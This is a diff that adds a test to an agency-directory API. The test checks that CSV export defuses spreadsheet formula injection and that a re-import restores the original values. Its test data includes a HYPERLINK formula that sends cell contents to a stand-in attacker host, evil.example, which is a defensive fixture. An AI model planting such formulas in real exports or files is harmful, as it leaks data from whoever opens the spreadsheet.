@@ -259,3 +259,41 @@ test('export json contains the imported agencies with their names', async () => 
     assert.match(a.code, /^000\.00\.\d{2}\.H01$/);
   }
 });
+
+test('export csv neutralises cells a spreadsheet would run as formulas; import reads them back', async () => {
+  const [code] = await freshDepartmentCodes(admin);
+  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Bấm vào đây")';
+  const created = await admin.post('/agencies', {
+    code,
+    name: formula,
+    shortName: 'SCT',
+    kind: 'department',
+    parentCode: PROVINCE_CODE,
+    phone: '+84 296 3852 000',
+    address: '-',
+  });
+  assertStatus(created, 201);
+  const res = await admin.get('/agencies/export?format=csv');
+  assertStatus(res, 200);
+  const line = res.text.split('\r\n').find((l) => l.startsWith(`${code},`));
+  assert.ok(line, `${code} exported`);
+  // Each dangerous cell starts with an apostrophe, which spreadsheets take as "text".
+  assert.ok(line.includes(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Bấm vào đây"")",`), line);
+  assert.ok(line.includes(",'-,"), line);
+  assert.ok(line.includes(",'+84 296 3852 000,"), line);
+  for (const cell of parseCsv(line)[0]) {
+    assert.ok(!/^[=+\-@\t\r]/.test(cell), `no cell starts with a formula character: ${cell}`);
+  }
+  // The exported row, imported as a dry run under a new code, carries the original values.
+  const [fresh] = await freshDepartmentCodes(admin);
+  const header = res.text.split('\r\n')[0].replace(/^\uFEFF/, '');
+  const csv = `${header}\r\n${line.replace(code, fresh)}\r\n`;
+  const dry = await importCsv(csv, '?dryRun=true');
+  assertStatus(dry, 200);
+  const real = await importCsv(csv);
+  assertStatus(real, 200);
+  const imported = await agencyByCode(admin, fresh);
+  assert.equal(imported.name, formula);
+  assert.equal(imported.phone, '+84 296 3852 000');
+  assert.equal(imported.address, '-');
+});
